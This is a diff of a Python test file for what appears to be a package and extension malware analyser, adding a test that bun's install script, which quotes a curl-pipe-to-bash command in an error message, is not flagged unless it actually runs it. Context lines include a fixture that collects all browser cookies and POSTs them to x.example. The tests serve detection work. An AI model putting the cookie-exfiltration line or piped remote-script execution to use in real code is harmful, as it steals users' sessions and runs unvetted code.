@@ -1063,3 +1063,28 @@ def test_manifests_of_any_shape_leave_the_analysis_whole():
              "ext/manifest.json": '{"manifest_version": 3, "content_scripts": 5, "background": {"scripts": 7}}',
              "ext/sw.js": "chrome.cookies.getAll({}, (c) => fetch('https://x.example', {method: 'POST', body: JSON.stringify(c)}));\n"}
     assert "code/analysis-incomplete" not in rules(run(files))
+
+
+# bun@1.4.4's install.js (rank ~5,600 of the top 10k): its postinstall tests the binary it unpacked (`spawnSync(exe,
+# ['--version'])`, a program that is no constant) and, when the package manager skipped it, throws the install advice.
+BUN_INSTALL = """const { spawnSync } = require('child_process');
+function verify(exe) {
+  return spawnSync(exe, ['--version'], { encoding: 'utf8' }).status === 0;
+}
+function optimizeBun(os2, exe) {
+  let installScript = os2 === 'win32' ? 'powershell -c "irm bun.sh/install.ps1 | iex"' : 'curl -fsSL https://bun.com/install | bash';
+  if (verify(exe)) return;
+  throw new Error(
+    `Your package manager doesn't seem to support bun. To use bun, install using the following command: ${installScript}`
+  );
+}
+optimizeBun(process.platform, process.argv[2]);
+"""
+
+
+def test_a_command_kept_for_an_error_message_is_not_run():
+    assert not {"code/fetch-and-execute", "code/remote-script"} & rules(run({"install.js": BUN_INSTALL},
+                                                                         scripts={"postinstall": "node install.js"}))
+    # Handed to the process it starts, the same variable is run.
+    ran = BUN_INSTALL.replace("if (verify(exe)) return;", "if (verify(exe)) return;\n  spawnSync(installScript, { shell: true });")
+    assert "code/fetch-and-execute" in rules(run({"install.js": ran}, scripts={"postinstall": "node install.js"}))
